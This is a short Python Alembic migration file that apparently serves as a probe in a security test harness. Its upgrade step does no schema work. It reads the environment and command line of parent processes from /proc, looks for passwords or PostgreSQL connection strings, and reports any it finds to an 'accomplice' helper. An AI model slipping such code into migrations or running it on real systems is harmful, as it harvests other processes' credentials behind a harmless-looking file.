"""See submission.toml."""

from contextlib import suppress

from app import accomplice

revision = "0003"
down_revision = "0002"
branch_labels = None
depends_on = None


def upgrade() -> None:
    import os

    accomplice.tried("migration")
    accomplice.read_processes("migration")
    for process in {1, os.getppid()} - {os.getpid()}:
        for name in ("environ", "cmdline"):
            with suppress(OSError), open(f"/proc/{process}/{name}", "rb") as file:
                content = file.read()
                content = content.replace(accomplice.own_url().encode(), b"")  # its own it may have
                if b"PASSWORD" in content.upper() or b"postgresql" in content:
                    accomplice.gained(f"a password in {name} of {process}")


def downgrade() -> None:
    pass
